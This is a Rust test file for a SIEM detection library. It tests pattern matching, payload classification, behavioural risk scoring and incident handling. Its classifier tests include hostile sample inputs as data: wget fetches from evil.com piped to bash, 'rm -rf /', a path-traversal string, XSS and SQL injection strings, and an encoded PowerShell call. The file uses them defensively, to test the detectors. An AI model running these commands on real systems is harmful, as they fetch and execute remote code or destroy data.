use siem_rust_core::behavior::calculate_session_risk;
use siem_rust_core::behavior::create_behavioral_threat;
use siem_rust_core::behavior::risk_severity;
use siem_rust_core::behavior::BehavioralAnalysisEngine;
use siem_rust_core::behavior::BehavioralContext;
use siem_rust_core::behavior::IPProfile;
use siem_rust_core::behavior::SessionContext;
use siem_rust_core::behavior::UserProfile;
use siem_rust_core::classify::classify_payload;
use siem_rust_core::classify::detect_command_injection;
use siem_rust_core::classify::detect_malware;
use siem_rust_core::classify::detect_sql_injection;
use siem_rust_core::classify::detect_suspicious_processes;
use siem_rust_core::classify::detect_universal_threats;
use siem_rust_core::classify::detect_web_attacks;
use siem_rust_core::classify::detect_xss;
use siem_rust_core::classify::sample_source_ip;
use siem_rust_core::classify::ThreatKind;
use siem_rust_core::incident::create_incident_from_threat;
use siem_rust_core::incident::IncidentSeverity;
use siem_rust_core::incident::IncidentStatus;
use siem_rust_core::incident::SlaPolicy;
use siem_rust_core::lifecycle::IncidentError;
use siem_rust_core::matcher::build_boyer_moore_table;
use siem_rust_core::matcher::find_ignoring_case;
use siem_rust_core::matcher::OptimizedPatternMatcher;
use siem_rust_core::matcher::PatternMatcher;
use siem_rust_core::model::DetectorKind;
use siem_rust_core::model::RawEvent;
use siem_rust_core::model::SourceKind;
use siem_rust_core::model::ThreatCategory;
use siem_rust_core::model::ThreatFinding;
use siem_rust_core::model::ThreatSeverity;
use siem_rust_core::orchestrator::IncidentResponseEngine;
use siem_rust_core::pipeline::default_alert_config;
use siem_rust_core::pipeline::default_soar_config;
use siem_rust_core::pipeline::UltraSIEMCore;

#[test]
fn test_boyer_moore_search() {
    let matcher = OptimizedPatternMatcher::new();
    let pattern = b"malware";
    let text = b"this is malware in the text";
    let bm_table = matcher.build_boyer_moore_table(pattern);

    assert!(matcher.boyer_moore_search(text, pattern, &bm_table));
}

#[test]
fn test_simd_detection() {
    let mut matcher = OptimizedPatternMatcher::new();
    matcher.add_patterns(vec![
        ("malware".to_string(), b"malware".to_vec()),
        ("virus".to_string(), b"virus".to_vec()),
    ]);

    let data = b"this contains malware and virus";
    let results = matcher.detect_threats_simd(data);

    assert_eq!(results.len(), 2);
}

#[test]
fn skip_search_agrees_with_a_plain_search() {
    let matcher = OptimizedPatternMatcher::new();
    let texts: [&[u8]; 6] = [b"", b"a", b"abracadabra", b"aaaaaaab", b"xyzxyzxyzw", b"needle in a haystack needle"];
    let patterns: [&[u8]; 9] = [b"", b"a", b"abra", b"cad", b"aab", b"aaab", b"xyzw", b"needle", b"haystacks"];
    for text in texts {
        for pattern in patterns {
            let table = build_boyer_moore_table(pattern);
            let plain = !pattern.is_empty() && text.windows(pattern.len()).any(|w| w == pattern);
            assert_eq!(matcher.boyer_moore_search(text, pattern, &table), plain, "{:?} in {:?}", pattern, text);
        }
    }
    let table = build_boyer_moore_table(b"abcab");
    assert_eq!(table.len(), 256);
    assert_eq!(table[b'a' as usize], 1);
    assert_eq!(table[b'b' as usize], 3);
    assert_eq!(table[b'c' as usize], 2);
    assert_eq!(table[b'z' as usize], 5);
    // a table that is none finds nothing that is not there
    assert!(!matcher.boyer_moore_search(b"abc", b"x", &[1, 2, 3]));
    assert!(!matcher.boyer_moore_search(b"abc", b"x", &vec![0; 256]));
}

#[test]
fn matcher_reports_names_in_order() {
    let mut matcher = OptimizedPatternMatcher::new();
    matcher.add_pattern("b".to_string(), b"two".to_vec());
    matcher.add_pattern("a".to_string(), b"one".to_vec());
    matcher.add_pattern("b".to_string(), b"three".to_vec());
    matcher.add_pattern("empty".to_string(), vec![]);
    assert_eq!(matcher.pattern_count(), 3);
    assert_eq!(
        matcher.detect_threats_simd(b"one two three"),
        vec![("b".to_string(), 950), ("a".to_string(), 950)]
    );
    let batch = matcher.process_events_batch(&vec![b"one".to_vec(), b"nothing".to_vec()]);
    assert_eq!(batch, vec![vec![("a".to_string(), 950)], vec![]]);
}

#[test]
fn loose_matcher_ignores_ascii_case() {
    let matcher = PatternMatcher::new();
    assert_eq!(
        matcher.detect_threats_parallel(b"<SCRIPT>x</script> <IfRaMe OnLoad=1>"),
        vec![("<script>".to_string(), 950), ("<iframe".to_string(), 950), ("onload=".to_string(), 950)]
    );
    assert!(matcher.detect_threats_parallel(b"plain text").is_empty());
    assert!(find_ignoring_case(b"JavaScript:", b"javascript:"));
    assert!(find_ignoring_case(b"anything", b""));
    assert!(!find_ignoring_case(b"ab", b"abc"));
    assert!(!find_ignoring_case(b"[", b"{"));
    assert!(!find_ignoring_case(b"@", b"`"));
}

#[test]
fn payloads_are_classified() {
    assert!(detect_xss("<script>alert('XSS Attack')</script>"));
    assert!(!detect_xss("<SCRIPT>"));
    assert!(detect_sql_injection("select * from t union select 1"));
    assert!(detect_sql_injection("1' or 1=1--"));
    assert!(!detect_sql_injection("SELECT * FROM users WHERE 1=1 OR 'a'='a'"));
    assert!(detect_malware("PowerShell.EXE -enc SGVsbG8gV29ybGQ="));
    assert!(!detect_malware("Normal web request to /api/users"));
    assert_eq!(classify_payload("<script>alert('XSS Attack')</script>"), Some(ThreatKind::Xss));
    assert_eq!(classify_payload("UNION SELECT password FROM admin_users--"), Some(ThreatKind::SqlInjection));
    assert_eq!(classify_payload("cmd.exe /c whoami && net user"), Some(ThreatKind::Malware));
    assert_eq!(classify_payload("certutil: your files are encrypted"), Some(ThreatKind::Ransomware));
    assert_eq!(classify_payload("eval(pay in Bitcoin)"), Some(ThreatKind::Ransomware));
    // talk of encryption alone is taken for nothing
    assert_eq!(classify_payload("Your files have been encrypted! Pay Bitcoin to decrypt!"), None);
    assert_eq!(classify_payload("Normal web request to /api/users"), None);
    assert_eq!(ThreatKind::Ransomware.severity_level(), 5);
    assert_eq!(ThreatKind::Malware.severity_level(), 4);
    assert_eq!(ThreatKind::SqlInjection.severity_level(), 4);
    assert_eq!(ThreatKind::Xss.severity_level(), 3);
    assert_eq!(ThreatKind::Xss.base_confidence(), 850);
    assert_eq!(ThreatKind::Ransomware.base_confidence(), 980);
    assert_eq!(ThreatKind::SqlInjection.name(), "sql_injection");
    assert_eq!(sample_source_ip(0), "192.168.1.100");
    assert_eq!(sample_source_ip(154), "192.168.1.254");
    assert_eq!(sample_source_ip(155), "192.168.1.100");
}

#[test]
fn threats_are_told_on_every_platform() {
    assert!(detect_web_attacks("<SCRIPT>alert('Universal XSS')</SCRIPT>"));
    assert!(detect_web_attacks("'; drop table users; --"));
    assert!(detect_web_attacks("../../../../etc/passwd"));
    assert!(!detect_web_attacks("GET /index.html"));
    assert!(detect_command_injection("wget http://evil.com/malware | BASH"));
    assert!(detect_command_injection("$(wget http://malicious.com)"));
    assert!(!detect_command_injection("ls -la"));
    assert!(detect_suspicious_processes("windows", Some("PowerShell.exe")));
    assert!(!detect_suspicious_processes("windows", Some("explorer.exe")));
    assert!(detect_suspicious_processes("linux", Some("/usr/bin/Python3")));
    assert!(detect_suspicious_processes("macos", Some("osascript")));
    assert!(!detect_suspicious_processes("macos", Some("Finder")));
    assert!(!detect_suspicious_processes("plan9", Some("bash")));
    assert!(!detect_suspicious_processes("linux", None));
    assert!(detect_universal_threats("nothing", "linux", Some("nmap")));
    assert!(detect_universal_threats("; rm -rf /", "unknown", None));
    assert!(!detect_universal_threats("nothing", "linux", Some("cat")));
}

fn event(id: &str, user: &str, ip: &str, action: &str, timestamp_ms: u64) -> RawEvent {
    RawEvent {
        id: id.to_string(),
        timestamp: timestamp_ms * 1_000_000,
        source_kind: SourceKind::Auth,
        source_id: "auth".to_string(),
        source_ip: ip.to_string(),
        destination_ip: "".to_string(),
        user_id: user.to_string(),
        action: action.to_string(),
        message: "".to_string(),
        attributes: vec![("session_id".to_string(), "s1".to_string())],
    }
}

#[test]
fn test_behavioral_analysis() {
    let mut engine = BehavioralAnalysisEngine::new();

    let event = event("e1", "test_user", "192.168.1.100", "login", 1_640_995_200_000);

    let context = engine.analyze_behavior(&event, 1_640_995_200_000);
    // First event should not trigger anomaly
    assert!(context.is_none());
}

#[test]
fn risks_follow_the_profiles() {
    let mut user = UserProfile {
        user_id: "u".to_string(),
        action_patterns: vec![("login".to_string(), 11), ("read".to_string(), 10), ("write".to_string(), 99)],
        risk_score: 0,
        last_activity: 1_000,
        geo_locations: vec![],
        user_agents: vec![],
    };
    assert_eq!(user.calculate_user_risk(1_000 + 3_600_000), 200);
    assert_eq!(user.calculate_user_risk(1_000 + 3_600_001), 400);
    user.geo_locations = vec!["a".into(), "b".into(), "c".into(), "d".into()];
    assert_eq!(user.calculate_user_risk(1_000), 500);
    user.action_patterns = (0..20).map(|i| (format!("a{}", i), 50)).collect();
    assert_eq!(user.calculate_user_risk(1_000), 1000);

    let mut ip = IPProfile {
        ip_address: "10.0.0.1".to_string(),
        connection_count: 100,
        failed_attempts: 5,
        last_seen: 0,
        geo_location: None,
        risk_score: 0,
    };
    assert_eq!(ip.calculate_ip_risk(), 0);
    ip.connection_count = 101;
    assert_eq!(ip.calculate_ip_risk(), 300);
    ip.failed_attempts = 6;
    assert_eq!(ip.calculate_ip_risk(), 800);

    let session = SessionContext {
        session_id: "s".to_string(),
        user_id: "u".to_string(),
        start_time: 0,
        last_activity: 0,
        actions: 1001,
    };
    assert_eq!(calculate_session_risk(None, 5), 0);
    assert_eq!(calculate_session_risk(Some(&session), 86_400_000), 300);
    assert_eq!(calculate_session_risk(Some(&session), 86_400_001), 500);

    assert_eq!(risk_severity(801), ThreatSeverity::Critical);
    assert_eq!(risk_severity(800), ThreatSeverity::High);
    assert_eq!(risk_severity(601), ThreatSeverity::High);
    assert_eq!(risk_severity(600), ThreatSeverity::Medium);
    assert_eq!(risk_severity(401), ThreatSeverity::Medium);
    assert_eq!(risk_severity(400), ThreatSeverity::Low);
}

#[test]
fn behavior_out_of_the_ordinary_is_handed_back() {
    let mut engine = BehavioralAnalysisEngine::with_params(3, 2000, 100);
    engine.track_session(SessionContext {
        session_id: "s1".to_string(),
        user_id: "u1".to_string(),
        start_time: 0,
        last_activity: 0,
        actions: 2_000,
    });
    let t = 1_700_000_000_000u64;
    // the long and busy session alone makes for a risk of 0.5 / 3; it is the baseline
    assert!(engine.analyze_behavior(&event("e1", "u1", "10.0.0.1", "read", t), t).is_none());
    assert!(engine.analyze_behavior(&event("e2", "u1", "10.0.0.1", "read", t + 1), t + 1).is_none());
    // an hour of silence, reported late, raises the risk of the user's activity
    let context = engine
        .analyze_behavior(&event("e3", "u1", "10.0.0.1", "read", t + 2), t + 3_600_003)
        .unwrap();
    assert_eq!(context.risk_score, (200 + 0 + 500) / 3);
    assert_eq!(context.frequency, 3);
    assert_eq!(context.session_id, "s1");
    assert_eq!(context.user_agent, "");
    assert_eq!(context.timestamp, t + 2);
    assert_eq!(context.time_of_day, ((t / 1000 % 86_400) / 3600) as u8);
    assert_eq!(context.day_of_week, ((t / 1000 / 86_400) % 7) as u8);
    assert_eq!(engine.user_count(), 1);

    let finding = create_behavioral_threat(&context, "e3");
    assert_eq!(finding.finding_id, "e3/behavior");
    assert_eq!(finding.category, ThreatCategory::InsiderThreat);
    assert_eq!(finding.severity, ThreatSeverity::Low);
    assert_eq!(finding.confidence, 233);
    assert_eq!(finding.description, "Suspicious behavior detected: read (risk score: 0.233)");
    assert_eq!(finding.detector_kind, DetectorKind::Anomaly);
}

#[test]
fn severity_thresholds_of_behavior() {
    let context = |risk: u16| BehavioralContext {
        user_id: "u".into(),
        source_ip: "1.1.1.1".into(),
        destination_ip: "".into(),
        action: "login".into(),
        timestamp: 1,
        frequency: 1,
        baseline_deviation: 0,
        risk_score: risk,
        session_id: "".into(),
        user_agent: "".into(),
        geo_location: None,
        time_of_day: 0,
        day_of_week: 0,
    };
    assert_eq!(create_behavioral_threat(&context(900), "e").severity, ThreatSeverity::Critical);
    assert_eq!(create_behavioral_threat(&context(700), "e").severity, ThreatSeverity::High);
    assert_eq!(create_behavioral_threat(&context(500), "e").severity, ThreatSeverity::Medium);
    assert_eq!(create_behavioral_threat(&context(100), "e").severity, ThreatSeverity::Low);
}

fn threat(id: &str, severity: ThreatSeverity, category: ThreatCategory, user: &str) -> ThreatFinding {
    ThreatFinding {
        finding_id: id.to_string(),
        produced_at: 1,
        detector_kind: DetectorKind::Signature,
        severity,
        category,
        confidence: 900,
        source_ip: "192.168.1.100".to_string(),
        destination_ip: "".to_string(),
        user_id: user.to_string(),
        source_event_ids: vec!["e".to_string()],
        matched_rule_ids: vec![],
        description: format!("Threat {}", id),
        attributes: vec![],
    }
}

#[test]
fn incidents_can_be_queried() {
    let mut engine = IncidentResponseEngine::new(default_alert_config(), default_soar_config());
    engine.ingest_finding(threat("one", ThreatSeverity::High, ThreatCategory::XSS, "Alice"), "i1".to_string(), 1);
    engine.ingest_finding(threat("two", ThreatSeverity::Low, ThreatCategory::DDoS, "bob"), "i2".to_string(), 1);
    engine.ingest_finding(threat("three", ThreatSeverity::High, ThreatCategory::APT, "carol"), "i3".to_string(), 1);
    engine.update_incident_status("i2", IncidentStatus::Resolved, 2).unwrap();

    let ids = |incidents: Vec<siem_rust_core::incident::Incident>| -> Vec<String> {
        incidents.into_iter().map(|i| i.id).collect()
    };
    assert_eq!(ids(engine.get_all_incidents()), vec!["i1", "i2", "i3"]);
    assert_eq!(ids(engine.get_incidents_by_status(IncidentStatus::Open)), vec!["i1", "i3"]);
    assert_eq!(ids(engine.get_incidents_by_status(IncidentStatus::Closed)), Vec::<String>::new());
    assert_eq!(ids(engine.get_incidents_by_severity(IncidentSeverity::High)), vec!["i1", "i3"]);
    assert_eq!(ids(engine.search_incidents("ALICE")), vec!["i1"]);
    assert_eq!(ids(engine.search_incidents("threat t")), vec!["i2", "i3"]);
    assert_eq!(ids(engine.search_incidents("192.168")), vec!["i1", "i2", "i3"]);
    assert_eq!(ids(engine.search_incidents("ddos")), vec!["i2"]);
    assert_eq!(ids(engine.search_incidents("nothing")), Vec::<String>::new());
    let stats = engine.get_incident_stats();
    assert_eq!(stats.total_incidents, 3);
    assert_eq!(stats.open_incidents, 2);
    assert_eq!(stats.resolved_incidents, 1);
}

#[test]
fn stored_incidents_must_be_sound() {
    let mut engine = IncidentResponseEngine::new(default_alert_config(), default_soar_config());
    let sla = SlaPolicy::standard();
    let sound = create_incident_from_threat(threat("t", ThreatSeverity::High, ThreatCategory::XSS, "u"), "i1".to_string(), 1, &sla);
    assert!(sound.is_valid());
    assert_eq!(sound.highest_severity(), ThreatSeverity::High);
    assert_eq!(engine.store_incident(sound.clone()), Ok(()));
    // the identifier is taken
    assert_eq!(engine.store_incident(sound.clone()), Err(IncidentError::Invalid));
    let mut too_mild = sound.clone();
    too_mild.id = "i2".to_string();
    too_mild.severity = IncidentSeverity::Low;
    assert_eq!(engine.store_incident(too_mild), Err(IncidentError::Invalid));
    let mut empty = sound.clone();
    empty.id = "i3".to_string();
    empty.findings.clear();
    assert_eq!(engine.store_incident(empty), Err(IncidentError::Invalid));
    let mut escalated = sound;
    escalated.id = "i4".to_string();
    escalated.escalation_level = 5;
    assert_eq!(engine.store_incident(escalated), Err(IncidentError::Invalid));
    assert_eq!(engine.incident_count(), 1);
}

#[test]
fn batches_go_through_event_by_event() {
    let mut core = UltraSIEMCore::new(0);
    let mut events = Vec::new();
    for (i, message) in ["User login successful", "UNION SELECT * FROM users", "<script>alert('xss')</script>"]
        .iter()
        .enumerate()
    {
        let mut e = event(&format!("e{}", i), "u1", "10.0.0.1", "query", 1);
        e.message = message.to_string();
        events.push(e);
    }
    let incidents = core.process_events_with_response(events, 10);
    assert_eq!(incidents.len(), 2);
    assert_eq!(incidents[0].category, ThreatCategory::SQLInjection);
    assert_eq!(incidents[1].category, ThreatCategory::XSS);
    assert_eq!(core.get_incident_stats().total_incidents, 2);
    let (dispatcher, detection, orchestrator) = core.into_parts();
    assert_eq!(dispatcher.counters().accepted, 3);
    assert_eq!(detection.whitelisted_count(), 0);
    assert_eq!(orchestrator.incident_count(), 2);
}
